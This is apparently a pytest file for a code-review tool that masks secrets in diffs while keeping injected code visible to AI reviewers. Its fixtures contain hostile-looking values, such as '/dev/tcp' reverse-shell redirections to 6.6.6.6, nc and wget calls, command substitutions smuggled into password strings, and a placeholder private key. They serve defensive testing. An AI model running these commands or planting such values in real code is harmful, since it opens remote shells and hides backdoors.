"""What looks like a secret is masked in data alone: no code goes with it, in any language, and none goes unread."""

from __future__ import annotations

import pytest
from benchmarks._secret_samples import one_mark_each
from tests.scenarios.reading import shown

from review_advisor.core.facts.change import EXECUTABLE_MODE, FileChange, Hunk, Status
from review_advisor.core.outcome.outcomes import Outcome
from review_advisor.core.policy.surfaces import Role
from review_advisor.core.report.report_text import report_text
from review_advisor.core.safety.secret_shapes import holds_mark, mark
from review_advisor.core.safety.shown_change import doubtful_lines, masked_text, secrets_of, shown_file
from review_advisor.mockworld.lines import approve, confirm
from review_advisor.mockworld.world import MockWorld


@pytest.fixture
def world() -> MockWorld:
    return MockWorld()


CODE = {
    "a command behind a password": (
        "deploy.sh",
        "PGPASSWORD=aB3dE5fG7hI9;sh</dev/tcp/6.6.6.6/99",
        "PGPASSWORD=[secret: password];sh</dev/tcp/6.6.6.6/99",
    ),
    "a pipe": ("a.sh", "TOKEN=x7Kq2Zv9Bm4Tj6Rw1L|nc${IFS}6.6.6.6", "TOKEN=[secret: token]|nc${IFS}6.6.6.6"),
    "the background": ("a.sh", "PASSWORD=aB3dE5fG7hI9&wget&x", "PASSWORD=[secret: password]&wget&x"),
    "a second assignment": (
        "a.sh",
        "PASSWORD=aB3dE5fG7hI9;PATH=/tmp/x7Kq2Z",
        "PASSWORD=[secret: password];PATH=/tmp/x7Kq2Z",
    ),
    "backquotes": ("a.sh", 'PASSWORD="aB3dE5`id>x`fG7hI9"', 'PASSWORD="[secret: password]`id>x`[*]"'),
    "a substitution with quotes": (
        "a.sh",
        "PASSWORD=aB3dE5$(sh<'x7Kq2Zv9')fG7hI9",
        "PASSWORD=aB3dE5$(sh<'x7Kq2Zv9')fG7hI9",
    ),
    "curl -u": ("a.sh", "curl -u root:aB3dE5fG7hI9;sh</dev/tcp/1/2", "curl -u root:[secret: password];sh</dev/tcp/1/2"),
    "sshpass": ("a.sh", "sshpass -p aB3dE5fG7hI9|sh</dev/tcp/1/2", "sshpass -p [secret: password]|sh</dev/tcp/1/2"),
    "a URL": ("a.sh", "curl ftp://u:aB3dE5fG7;sh@h.example", "curl ftp://u:[secret: password in a URL];sh@h.example"),
    "a function of shells": ("a.sh", "password runBackdoorXy7Zq2Kp9", "password runBackdoorXy7Zq2Kp9"),
    "a command that runs a word": ("a.sh", "exec -a token runBackdoorXy7Zq2Kp9", "exec -a token runBackdoorXy7Zq2Kp9"),
    "a shift that is no here-document": (
        "a.sh",
        ": $((1<<n))\npassword runBackdoorXy7Zq2Kp9\nn",
        ": $((1<<n))\npassword runBackdoorXy7Zq2Kp9\nn",
    ),
    "a here-document that is run": (
        "a.sh",
        "bash <<X\npassword runBackdoorXy7Zq2Kp9\nX\n",
        "bash <<X\npassword runBackdoorXy7Zq2Kp9\nX\n",
    ),
    "a variable of Windows": (
        "a.bat",
        "set TOKEN=x7Kq2Zv9Bm4Tj6Rw1L%X:~1,1%calc",
        "set TOKEN=[secret: token]%X:~1,1%calc",
    ),
    "a workflow": (
        ".github/workflows/ci.yml",
        "jobs:\n  a:\n    steps:\n      - run: |\n          PASSWORD=aB3dE5fG7hI9;x7Kq2Zv9Bm4Tj6R\n",
        "jobs:\n  a:\n    steps:\n      - run: |\n          PASSWORD=[secret: password];x7Kq2Zv9Bm4Tj6R\n",
    ),
    "a Dockerfile": (
        "Dockerfile",
        "RUN PASSWORD=aB3dE5fG7hI9;x7Kq2Zv9Bm",
        "RUN PASSWORD=[secret: password];x7Kq2Zv9Bm",
    ),
    "a Makefile": (
        "Makefile",
        "a:\n\tPASSWORD=aB3dE5fG7hI9;x7Kq2Zv9Bm\n",
        "a:\n\tPASSWORD=[secret: password];x7Kq2Zv9Bm\n",
    ),
    "Python": (
        "a.py",
        'password = f"Zq7pX2{os.system(HOST)}mW9kLv4"',
        'password = f"[secret: password]{os.system(HOST)}[*]"',
    ),
    "a literal in an interpolation": (
        "a.py",
        "password = f\"Zq7pX2{run('x7Kq2Zv9')}mW9kLv4\"",
        "password = f\"[secret: password]{run('x7Kq2Zv9')}[*]\"",
    ),
    "an identifier": ("a.py", "token = runBackdoorXy7Zq2Kp9", "token = runBackdoorXy7Zq2Kp9"),
    "Ruby": ("a.rb", 'password = "Zq7pX2#{exec(h)}mW9kLv4"', 'password = "[secret: password]#{exec(h)}[*]"'),
    "a quote that is a character": (
        "a.rb",
        "x = ?'; token = runBackdoorXy7Zq2Kp9 #'",
        "x = ?'; token = runBackdoorXy7Zq2Kp9 #'",
    ),
    "JavaScript": ("a.js", "password = `Zq7pX2${eval(h)}mW9kLv4`", "password = `Zq7pX2${eval(h)}mW9kLv4`"),
    "a quote in a pattern": (
        "a.js",
        "x = /'/; token = runBackdoorXy7Zq2Kp9; y = /'/",
        "x = /'/; token = runBackdoorXy7Zq2Kp9; y = /'/",
    ),
    "PHP": (
        "a.php",
        '<?php $password = "Zq7pX2{$o->run()}mW9kLv4";',
        '<?php $password = "[secret: password]{$o->run()}[*]";',
    ),
    "a comment that PHP ends": (
        "a.php",
        "<?php // ?><?php $token = runBackdoorXy7Zq2Kp9;",
        "<?php // ?><?php $token = runBackdoorXy7Zq2Kp9;",
    ),
    "Perl": ("a.pl", 'password => "Zq7pX2@{[exec($h)]}mW9kLv4"', 'password => "[secret: password]@{[exec($h)]}[*]"'),
    "Swift": (
        "a.swift",
        'let password = "Zq7pX2\\(run(h))mW9kLv4"',
        'let password = "[secret: password]\\(run(h))[*]"',
    ),
    "C#": ("a.cs", 'var password = $"Zq7pX2{Run(h)}mW9kLv4";', 'var password = $"[secret: password]{Run(h)}[*]";'),
    "digits apart": (
        "a.cpp",
        "int a = 1'000; token = runBackdoorXy7Zq2Kp9; b = 1'0;",
        "int a = 1'000; token = runBackdoorXy7Zq2Kp9; b = 1'0;",
    ),
    "Kotlin": ("a.kt", 'val password = "Zq7pX2${run(h)}mW9kLv4"', 'val password = "Zq7pX2${run(h)}mW9kLv4"'),
    "Elixir": ("a.ex", 'password = "Zq7pX2#{run(h)}mW9kLv4"', 'password = "[secret: password]#{run(h)}[*]"'),
    "Terraform": ("a.tf", 'password = "Zq7pX2${file(h)}mW9kLv4"', 'password = "Zq7pX2${file(h)}mW9kLv4"'),
    "a script of a page": (
        "a.html",
        "<script>token = runBackdoorXy7Zq2Kp9</script>",
        "<script>token = runBackdoorXy7Zq2Kp9</script>",
    ),
    "a lifetime": (
        "a.rs",
        "fn f<'a>(x: &'a str) { token = runBackdoorXy7Zq2Kp9 }",
        "fn f<'a>(x: &'a str) { token = runBackdoorXy7Zq2Kp9 }",
    ),
}


@pytest.mark.parametrize("path, text, visible", CODE.values(), ids=CODE)
def test_of_a_value_that_is_recognised_only_its_data_is_masked(path: str, text: str, visible: str) -> None:
    assert masked_text(path, text) == visible
    lines = tuple(f"+{line}" for line in text.split("\n"))
    made = FileChange(Status.ADDED, path, hunks=(Hunk(0, 0, 1, len(lines), "", lines),))
    assert [line[1:] for line in shown_file(made).hunks[0].lines] == visible.split("\n")


@pytest.mark.parametrize("case", ["a command behind a password", "Python", "a workflow", "an identifier"])
def test_every_reviewer_is_shown_the_code(world: MockWorld, case: str) -> None:
    path, text, visible = CODE[case]
    lines = tuple(f"+{line}" for line in text.rstrip("\n").split("\n"))
    world.change(FileChange(Status.ADDED, path, added=len(lines), hunks=(Hunk(0, 0, 1, len(lines), "", lines),)))
    world.agents.script(Role.EXECUTOR, approve())
    world.agents.script(Role.POST_VERIFY, confirm())
    world.review()
    for role in (Role.EXECUTOR, Role.POST_VERIFY):
        for line in visible.rstrip("\n").split("\n"):
            assert f"+{line}" in shown(world.calls(role)[0], "DIFF").split("\n"), role


def modified(path: str, *lines: str, at: int = 40, mode: str = "100644") -> FileChange:
    hunk = Hunk(at, sum(line[0] in " -" for line in lines), at, sum(line[0] in " +" for line in lines), "", lines)
    return FileChange(Status.MODIFIED, path, new_mode=mode, added=1, hunks=(hunk,))


DOUBTFUL = {
    "a text of many lines that ends": modified("a.py", ' the end"""', "+token = runBackdoorXy7Zq2Kp9", ' """'),
    "a comment that ends": modified("a.js", " */", "+x = `", "+token = runBackdoorXy7Zq2Kp9", "+`"),
    "a template that ends": modified("a.js", " `", "+token = runBackdoorXy7Zq2Kp9", " `"),
    "a program of an unknown language": modified(
        "bin/deploy", " x", "+token = runBackdoorXy7Zq2Kp9", mode=EXECUTABLE_MODE
    ),
    "quotes of shells": modified("a.sh", " }'", "+password runBackdoorXy7Zq2Kp9", " x '"),
}


@pytest.mark.parametrize("case", [case for case in DOUBTFUL if case != "a comment that ends"])
def test_a_mask_that_may_hide_code_leaves_the_file_unread(world: MockWorld, case: str) -> None:
    file = DOUBTFUL[case]
    world.change(file)
    world.agents.script(Role.EXECUTOR, approve())
    world.agents.script(Role.POST_VERIFY, confirm())
    document = world.review()
    assert document.outcome is Outcome.ESCALATED
    assert "what is masked as a secret may be code in line 41" in report_text(document)


ORDINARY = {
    "a password in its quotes": modified("a.py", ' """The end."""', '+password = "x7Kq2Zv9Bm4Tj6R"', " y"),
    "one of shells": modified("a.sh", " x 'y'", "+PASSWORD='x7Kq2Zv9Bm4Tj6R'", " z"),
    "a bare one": modified("a.sh", " x 'y'", "+PASSWORD=x7Kq2Zv9Bm4Tj6R", " z"),
    "one of PHP": modified("a.php", ' x("y");', '+$password = "x7Kq2Zv9Bm4Tj6R";', " z"),
    "a setting": modified("a.yaml", " x: y", "+password: x7Kq2Zv9Bm4Tj6R", " z: 1"),
    "a template": modified("a.js", " x = `y`", "+password = `x7Kq2Zv9Bm4Tj6R`", " z"),
    "a comment": modified("a.go", " /* y */", "+// password: x7Kq2Zv9Bm4Tj6R", " z"),
    "no secret": modified("a.py", ' """', "+token = run_the_front_door(x)", ' """'),
}


@pytest.mark.parametrize("file", ORDINARY.values(), ids=ORDINARY)
def test_an_ordinary_secret_is_masked_and_its_file_is_read(file: FileChange) -> None:
    assert holds_mark("\n".join(shown_file(file).hunks[0].lines)) is (file is not ORDINARY["no secret"])
    assert doubtful_lines(file) == ()


def added(path: str, *lines: str) -> FileChange:
    signed = tuple(f"+{line}" for line in lines)
    return FileChange(Status.ADDED, path, added=len(lines), hunks=(Hunk(0, 0, 1, len(lines), "", signed),))


def test_a_value_of_a_test_is_no_name_of_the_code(world: MockWorld) -> None:
    world.change(
        added("tests/test_a.py", 'api_token = "runBackdoorXy7Zq2Kp9"'),
        added("src/a.py", "def runBackdoorXy7Zq2Kp9():", "    import runBackdoorXy7Zq2Kp9"),
    )
    world.agents.script(Role.EXECUTOR, approve())
    world.agents.script(Role.POST_VERIFY, confirm())
    world.review()
    for role in (Role.EXECUTOR, Role.POST_VERIFY):
        diff = shown(world.calls(role)[0], "DIFF")
        assert "+def runBackdoorXy7Zq2Kp9():" in diff
        assert f'+api_token = "{mark("token")}"' in diff


@pytest.mark.parametrize(
    "other, is_known",
    [
        (added("src/b.py", "x = 'x7Kq2Zv9Bm4Tj6Rw1L'"), True),
        (added("src/b.py", "import x7Kq2Zv9Bm4Tj6Rw1L"), False),
        (added("src/x7Kq2Zv9Bm4Tj6Rw1L.py", "y"), True),
        (added("x7Kq2Zv9Bm4Tj6Rw1L", "y"), False),
    ],
    ids=["a literal", "a name", "part of a path", "a path"],
)
def test_a_secret_is_known_again_where_it_is_no_name_in_use(other: FileChange, is_known: bool) -> None:
    files = [added("src/a.py", 'api_token = "x7Kq2Zv9Bm4Tj6Rw1L"'), other]
    assert [run for run, _ in secrets_of(files)] == ["x7Kq2Zv9Bm4Tj6Rw1L"] * is_known


def test_a_key_in_code_is_masked_where_its_lines_are_literals() -> None:
    body = "MIIEpAIBAAKCAQEAx7Kq2Zv9Bm4Tj6Rw1Lx7Kq2Zv9Bm4Tj6Rw1L"
    key = f'KEY = """-----BEGIN RSA PRIVATE KEY-----\n{body}\n-----END RSA PRIVATE KEY-----"""\n'
    assert masked_text("a.py", key) == key.replace(body, mark("private key"))
    bare = f"# -----BEGIN RSA PRIVATE KEY-----\n{body}\n"
    assert masked_text("a.py", bare) == bare


def test_a_jot_of_signs_stays() -> None:
    shown = masked_text("a.yaml", "password: aB3!dE5%fG7_hI9\n")
    assert shown == "password: [secret: password]![*]%[*]_[*]\n"
    assert one_mark_each(shown) == "password: [secret: password]\n"
